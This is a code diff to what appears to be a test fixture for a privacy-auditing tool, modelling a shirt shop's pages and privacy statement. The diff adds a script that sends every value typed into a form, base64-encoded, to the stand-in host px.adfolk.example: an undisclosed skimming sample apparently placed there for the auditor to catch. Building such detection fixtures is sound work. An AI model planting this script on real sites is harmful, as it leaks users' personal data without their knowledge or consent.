@@ -12,7 +12,7 @@ from auditor.demo.web import Answer, LocalWeb, cookie, gif, html, script, text
 
 HOST = "www.7diamonds.com"
 STATEMENT = "/pages/privacy-policy"
-_SHIRTS = ("linen", "oxford", "denim")
+SHIRTS = ("denim", "linen", "oxford")
 _ADDRESS = "15778 Gateway Cir, Tustin, CA 92780"
 _MAIL = "customerservice@7diamonds.com"
 
@@ -20,6 +20,10 @@ _TAG = """document.cookie = '_ga=GA1.1.77.88; max-age=63072000; path=/; secure';
 new Image().src = 'https://www.google-analytics.com/g/collect?v=2&en=page_view';"""
 _META = """document.cookie = '_fbp=fb.1.55.66; max-age=7776000; path=/; secure';
 new Image().src = 'https://www.facebook.com/tr?ev=PageView';"""
+
+ADFOLK = """<script>const tell = (what) => new Image().src = 'https://px.adfolk.example/t.gif?' + what;
+tell('p=shirt'); addEventListener('change', (event) => tell('e=' + btoa(event.target.value)));</script>"""
+"""A company of which the statement does not know, and to which an address goes as soon as it is typed."""
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
@@ -44,7 +48,7 @@ class Edition:
 def statement(edition: Edition) -> str:
     """The statement's text: headings and paragraphs."""
     return f"""\
-When we want certain identifying information from you, a form on our pages says what it is for.
+When we want certain identifying information from you, it will only be used in accordance with what stands here.
 
 It tells us how to improve our products. Now and then you may get promotional emails about new products from us. A few \
 customers are asked for market research purposes. For this we use email, phone, fax or mail. We may also customize the \
@@ -61,7 +65,8 @@ external websites. What you tell them is not governed by this privacy statement.
 
 Should our advertising no longer please you, change your mind at any time by writing to or emailing us: the address is \
 {edition.mail} and the post finds us as said below. We do not sell, distribute or lease what we know about you, save with \
-your leave. News of others comes only after you tell us that you wish this to happen. As a customer you can request \
+your leave. We send promotional information about third parties once \
+you tell us that you wish this to happen. As a customer you can request \
 details of personal information under {edition.law}. For a copy of the information held on you please send a letter to \
 {_ADDRESS}. If something in it is incorrect or incomplete, write or email us there. We promptly correct what we got wrong.
 
@@ -92,7 +97,7 @@ def shop(edition: Edition) -> LocalWeb:
 
 
 def _pages(edition: Edition) -> dict[str, tuple[str, str]]:
-    shirts = "".join(f"<li><a href=/products/{s}-shirt>A {s} shirt</a></li>" for s in _SHIRTS)
+    shirts = "".join(f"<li><a href=/products/{s}-shirt>A {s} shirt</a></li>" for s in SHIRTS)
     contact = f"<p>7 Diamonds, {_ADDRESS}</p><p><a href=mailto:{edition.mail}>{edition.mail}</a></p>"
     friend = f'<p>Our cloth is woven by <a href="{escape(edition.partner)}">friends at the mill</a>.</p>'
     return {
@@ -101,7 +106,7 @@ def _pages(edition: Edition) -> dict[str, tuple[str, str]]:
         "/pages/about": ("About us", friend + edition.film),
         "/pages/contact": ("Contact", contact),
         STATEMENT: ("Privacy", _prose(statement(edition))),
-        **{f"/products/{s}-shirt": (f"A {s} shirt", _product(s, edition)) for s in _SHIRTS},
+        **{f"/products/{s}-shirt": (f"A {s} shirt", _product(s, edition)) for s in SHIRTS},
     }
 
 
